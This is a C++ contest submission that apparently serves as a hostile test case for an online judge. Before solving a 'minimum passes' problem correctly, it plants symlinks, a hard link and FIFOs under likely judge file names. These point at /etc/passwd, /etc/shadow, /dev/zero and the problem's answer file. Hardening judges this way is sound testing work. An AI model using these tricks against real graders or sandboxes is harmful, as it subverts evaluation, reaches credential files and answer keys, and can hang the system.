// attack: plant symlinks and FIFOs in the work dir under the names a judge
//   might use for its own files (output, stdout, stderr, answer, input,
//   compile.log ...), pointing at /etc/passwd, /etc/shadow, /dev/zero and the
//   package's answers; a hard link to /etc/shadow; then solve correctly. A
//   judge that reads or writes through any of them would misjudge or hang.
// verdicts: AC
#include <sys/stat.h>
#include <unistd.h>
#include <cstdio>
#include <vector>
int main() {
  const char* to_passwd[] = {"output", "stdout", "stdout.txt", "out", "out.txt", "output.txt", "answer",
                             "answer.txt", "solution.out", "result", "1.out", "expected"};
  for (const char* name : to_passwd) symlink("/etc/passwd", name);
  symlink("/etc/shadow", "stderr");
  symlink("/etc/shadow", "compile.log");
  symlink("/dev/zero", "input");
  symlink("/dev/zero", "stdin");
  symlink("/work/main/problems/minimum-passes/data/sample/1.ans", "1.ans");
  symlink("..", "up");
  symlink("/", "root");
  link("/etc/shadow", "shadow-hardlink");
  mkfifo("output.fifo", 0666);
  mkfifo("checker.out", 0666);
  mkfifo("stderr.txt", 0666);
  int n;
  if (std::scanf("%d", &n) != 1) return 0;
  std::vector<int> pos(n + 2);
  for (int i = 0; i < n; ++i) {
    int v;
    std::scanf("%d", &v);
    pos[v] = i;
  }
  int passes = 1;
  for (int v = 1; v < n; ++v) passes += pos[v + 1] < pos[v];
  std::printf("%d\n", passes);
}
